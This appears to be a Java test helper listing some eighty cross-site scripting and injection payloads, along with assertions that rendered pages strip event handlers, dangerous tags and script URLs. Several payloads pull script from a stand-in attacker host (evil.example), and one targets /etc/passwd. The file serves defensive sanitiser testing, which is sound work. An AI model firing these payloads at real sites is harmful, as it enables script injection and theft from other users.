package coop.meent.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/// What somebody types who wants to run something in the browsers of others, and how to see whether
/// it would.
public final class Attacks {
    /// What goes into a field.
    public static final List<String> ALL =
            List.of(
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    " javascript:alert(1)",
                    "java\tscript:alert(1)",
                    "java&#10;script:alert(1)",
                    "&#106;avascript:alert(1)",
                    "&#x6A;avascript:alert(1)",
                    "javascript&colon;alert(1)",
                    "javascript&#58;alert(1)",
                    "\u0001javascript:alert(1)",
                    "javascript://a%0aalert(1)",
                    "javascript:/*--></title></style></script>*/alert(1)",
                    "vbscript:msgbox(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "data:text/html;base64,PHNjcmlwdD4=",
                    "data:image/svg+xml,<svg onload=alert(1)>",
                    "file:///etc/passwd",
                    "blob:https://a/b",
                    "view-source:javascript:alert(1)",
                    "feed:javascript:alert(1)",
                    "//evil.example/x",
                    "/\\evil.example",
                    "\\\\evil.example",
                    "https://a.example/\"onmouseover=\"alert(1)",
                    "x\" onerror=\"alert(1)",
                    "x' onerror='alert(1)",
                    "x` onerror=`alert(1)",
                    "\"><script>alert(1)</script>",
                    "'><img src=x onerror=alert(1)>",
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
                    "<<script>script>alert(1)<</script>/script>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img/src=x/onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><a xlink:href='javascript:alert(1)'><text>x",
                    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                    "<body onload=alert(1)>",
                    "<iframe src=javascript:alert(1)>",
                    "<iframe srcdoc='<script>alert(1)</script>'>",
                    "<object data=javascript:alert(1)>",
                    "<embed src=javascript:alert(1)>",
                    "<form action=javascript:alert(1)><button>x",
                    "<button formaction=javascript:alert(1)>x",
                    "<input autofocus onfocus=alert(1)>",
                    "<details open ontoggle=alert(1)>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<video controls onplay=alert(1) src=/x>",
                    "<a href=javascript:alert(1)>x</a>",
                    "<a id=x tabindex=1 onfocus=alert(1)>x</a>",
                    "<style>@import'//evil.example';</style>",
                    "<p style=background:url(javascript:alert(1))>x</p>",
                    "<link rel=stylesheet href=//evil.example>",
                    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                    "<base href=//evil.example/>",
                    "<template><script>alert(1)</script></template>",
                    "<noscript><p title='</noscript><script>'>",
                    "<!--><script>alert(1)</script>-->",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<?xml <script>alert(1)</script>?>",
                    "</div></section><script>alert(1)</script>",
                    "{{constructor.constructor('alert(1)')()}}",
                    "\u2028<script>alert(1)</script>",
                    "\0<script>alert(1)</script>",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "hx-get=/x hx-trigger=load",
                    "<div hx-on:load=alert(1) data-writer>x</div>",
                    "<script type=module>import'//evil.example'</script>",
                    "<a href=\"&#1;javascript:alert(1)\">x</a>",
                    "<img srcset='x' onload=alert(1) src=/strip.svg>",
                    "</title><script>alert(1)</script>",
                    "</textarea><script>alert(1)</script>",
                    "</script><script>alert(1)</script>",
                    "<marquee onstart=alert(1)>",
                    "<select onfocus=alert(1) autofocus>",
                    "<isindex type=image src=1 onerror=alert(1)>",
                    "<x style=animation-name:x onanimationstart=alert(1)>",
                    "{% include '/etc/passwd' %}{{ 7*7 }}");

    private static final Set<String> LEADS =
            Set.of("href", "src", "action", "formaction", "xlink:href", "data", "poster", "cite");
    private static final Set<String> NEVER =
            Set.of("iframe", "object", "embed", "base", "frame", "applet", "style", "marquee");

    private Attacks() {}

    /// Asserts that a browser would run nothing of the page but what the site itself brings.
    ///
    /// @param where what the failure names
    public static void harmless(Document page, String where) {
        for (var it : page.getAllElements()) {
            assertThat(NEVER).as(where).doesNotContain(it.normalName());
            if (it.normalName().equals("script")) {
                script(it, where);
            }
            it.attributes().forEach(attribute -> harmless(it, attribute, where));
        }
    }

    private static void script(Element it, String where) {
        boolean data = it.attr("type").equals("application/ld+json");
        assertThat(data || it.attr("src").startsWith("/assets/"))
                .as("%s: %s", where, it.outerHtml())
                .isTrue();
        assertThat(it.data()).as(where).doesNotContain("</").doesNotContain("<!--");
    }

    private static void harmless(Element it, Attribute attribute, String where) {
        var name = attribute.getKey().toLowerCase(Locale.ROOT);
        assertThat(name).as("%s: %s", where, it.outerHtml()).doesNotStartWith("on");
        assertThat(name).as(where).doesNotStartWith("hx-on").isNotIn("srcdoc", "style");
        if (it.normalName().equals("meta") && name.equals("http-equiv")) {
            assertThat(attribute.getValue()).as(where).isNotEqualToIgnoringCase("refresh");
        }
        if (LEADS.contains(name)) {
            var target = attribute.getValue().replaceAll("[\\p{Cntrl}\\s]", "");
            assertThat(target.toLowerCase(Locale.ROOT))
                    .as(where)
                    .doesNotStartWith("javascript:")
                    .doesNotStartWith("vbscript:")
                    .doesNotStartWith("data:")
                    .doesNotStartWith("blob:");
        }
    }
}
